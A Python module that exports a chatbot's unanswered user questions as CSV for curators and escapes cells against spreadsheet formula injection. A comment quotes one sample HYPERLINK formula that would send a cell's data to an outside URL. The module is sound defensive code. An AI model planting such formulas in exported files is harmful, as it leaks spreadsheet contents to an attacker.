"""The unanswered questions as CSV, for curators' spreadsheets."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from bot.insights.grouping import QuestionGroup

# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a question
# such as =HYPERLINK("http://…?d="&A3,"Click") would otherwise run when an admin opens it.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

COLUMNS = (
    "count",
    "question",
    "languages",
    "best_candidate",
    "best_score",
    "last_asked_utc",
    "variants",
)


def spreadsheet_safe(cell: str) -> str:
    """``cell`` with a leading ``'`` when it would start a formula; Excel, LibreOffice and
    Google Sheets show the text and hide the quote."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


def unanswered_csv(groups: Iterable[QuestionGroup]) -> bytes:
    """``groups`` as CSV, a row each under a header.

    Encoded UTF-8 *with* a byte-order mark: without it Excel guesses the system code
    page and shows Japanese (and umlauts) as mojibake; other tools ignore the BOM. Every
    text cell goes through ``spreadsheet_safe``: the questions are anybody's input.
    """
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for group in groups:
        writer.writerow(
            [
                group.count,
                spreadsheet_safe(group.example),
                spreadsheet_safe(" ".join(group.languages)),
                spreadsheet_safe(group.best_entry or ""),
                f"{group.best_score:.0f}",
                group.last_asked.isoformat(timespec="seconds"),
                spreadsheet_safe(" | ".join(group.variants)),
            ]
        )
    return out.getvalue().encode("utf-8-sig")
